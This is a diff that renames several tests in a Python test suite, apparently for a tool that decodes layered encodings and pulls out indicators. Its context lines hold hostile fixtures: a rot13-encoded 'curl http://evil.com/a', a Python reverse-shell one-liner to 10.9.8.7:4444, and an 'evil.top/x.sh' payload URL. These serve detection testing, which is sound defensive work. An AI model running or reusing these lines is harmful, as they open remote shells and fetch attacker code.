@@ -60,7 +60,7 @@ def test_the_name_of_an_encoding_is_not_decoded_with_the_rest():
     assert results("rot13: phey uggc://rivy.pbz/n") == ["curl http://evil.com/a"]
 
 
-def test_backticks_within_a_run_quote_nothing():
+def test_backticks_within_a_run_are_not_quotes():
     plain = "import socket,subprocess;s=socket.socket();s.connect(('10.9.8.7',4444))"
     wrapped = base64.b85encode(plain.encode()).decode()
     assert wrapped.count("`") == 2
@@ -147,7 +147,7 @@ def test_each_layer_is_shown_in_order_and_the_indicators_of_the_last():
     assert "http://evil.top/x.sh" in [one.facts.value for one in with_facts(found, IndicatorFacts)]
 
 
-def test_a_guess_is_marked_as_one():
+def test_a_guess_is_marked_as_such():
     (result,) = parts("Gur zrrgvat vf zbirq gb Guhefqnl ng abba.")
     assert result.confidence == "medium"
     assert "guessed from the result: rot13" in result.why
@@ -199,13 +199,13 @@ PIECES = [
 
 @given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join) | st.text(max_size=60))
 @settings(max_examples=120, deadline=None)
-def test_no_text_makes_it_raise(text):
+def test_any_text_is_read_without_an_exception(text):
     assert list(inspect(text, source="x"))
 
 
 @given(st.binary(min_size=1, max_size=200))
 @settings(max_examples=40, deadline=None)
-def test_no_bytes_inside_make_it_raise(data):
+def test_any_encoded_bytes_are_read(data):
     for head in (b"\x1f\x8b\x08", b"x\x9c", b"BZh9", b"\xfd7zXZ\0", b"PK\x03\x04", b""):
         assert list(inspect(base64.b64encode(head + data).decode(), source="x"))
 
